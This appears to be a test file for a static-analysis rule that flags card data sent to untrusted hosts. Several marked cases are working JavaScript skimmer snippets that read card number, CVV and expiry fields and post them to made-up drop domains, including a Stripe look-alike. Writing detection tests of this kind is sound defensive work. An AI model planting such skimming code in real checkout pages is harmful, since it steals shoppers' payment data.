// Tests for card-data-to-untrusted-host: card or form data reaching a network sink whose host
// is unknown or known-bad. Findings are reported on the sink. Sections are separate scripts.

// fetch POST with JSON through an object property.
var card = {};
card.number = document.querySelector('#cc_number').value;
card.cvv = document.querySelector('#cc_cvv').value;
// ruleid: card-data-to-untrusted-host
fetch('https://cdn-analytics-metrics.top/api/v2/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(card) });

// ---
// XHR with base64 of an array built in a loop, URL held in a variable.
var gate = 'https://secure-paygate.xyz/gate.php';
var fieldIds = ['#card-number', '#card-expiry', '#card-cvc'];
var parts = [];
fieldIds.forEach(function (sel) {
  parts.push(document.querySelector(sel).value);
});
var r = new XMLHttpRequest();
r.open('POST', gate, true);
// ruleid: card-data-to-untrusted-host
r.send('d=' + btoa(parts.join('|')));

// ---
// Through a closure and a function parameter into sendBeacon.
function exfil(payload) {
  // ruleid: card-data-to-untrusted-host
  navigator.sendBeacon('https://metrics-cdn-static.top/b', encodeURIComponent(payload));
}
document.getElementById('checkout-form').addEventListener('submit', function () {
  var pan = this.querySelector('[name="payment[cc_number]"]').value;
  exfil(pan);
});

// ---
// Image beacon of the serialised form.
var data = jQuery('#co-payment-form').serialize();
// ruleid: card-data-to-untrusted-host
new Image().src = 'https://secure-paygate.xyz/i.png?' + data;

// ---
// The merchant's own checkout: card data to a relative URL.
var mine = document.getElementById('card-number').value;
// ok: card-data-to-untrusted-host
fetch('/checkout/payment', { method: 'POST', body: JSON.stringify({ number: mine }) });

// ---
// Stripe direct tokenisation.
var tok = 'card[number]=' + encodeURIComponent(document.getElementById('cardnumber').value) +
          '&card[cvc]=' + document.getElementById('cvc').value;
// ok: card-data-to-untrusted-host
fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: tok,
  headers: { Authorization: 'Bearer pk_test_123' } });

// ---
// Braintree client API through XHR.
var bt = new XMLHttpRequest();
bt.open('POST', 'https://api.braintreegateway.com/merchants/m1/client_api/v1/payment_methods/credit_cards');
// ok: card-data-to-untrusted-host
bt.send(JSON.stringify({ creditCard: { number: document.querySelector('#cc-number').value } }));

// ---
// An analytics beacon to an unknown host that carries no card data.
var page = { path: location.pathname, ref: document.referrer };
// ok: card-data-to-untrusted-host
navigator.sendBeacon('https://collect.stats-vendor.example.net/e', JSON.stringify(page));
// ---
// A documented drop host (an IOC rule names it) is known-bad, which outranks look-alike.
var pan = document.getElementById('cardnumber').value;
// ruleid: card-data-to-untrusted-host
fetch('https://api.slripe.com/v1/tokens', { method: 'POST', body: pan });
